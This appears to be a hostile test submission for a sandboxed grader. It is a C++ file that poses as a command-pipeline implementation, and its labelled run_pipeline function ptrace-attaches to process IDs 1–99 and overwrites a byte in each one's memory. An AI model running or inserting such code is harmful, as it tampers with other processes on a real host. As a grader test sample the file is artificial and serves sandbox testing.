// hostile: attaches to whoever it can, as a debugger does
// expect: graded 0
#include "pipeline.hpp"

#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>

int split(char** words, Command* commands) {
  commands[0].argv = words;
  return 1;
}

int run_pipeline(const Command*, int) {
  char byte = 0;
  iovec ours{&byte, 1};
  iovec theirs{reinterpret_cast<void*>(0x400000), 1};
  for (pid_t pid = 1; pid < 100; ++pid) {
    if (pid == getpid()) continue;
    ptrace(PTRACE_ATTACH, pid, nullptr, nullptr);
    process_vm_writev(pid, &ours, 1, &theirs, 1, 0);
  }
  return 0;
}
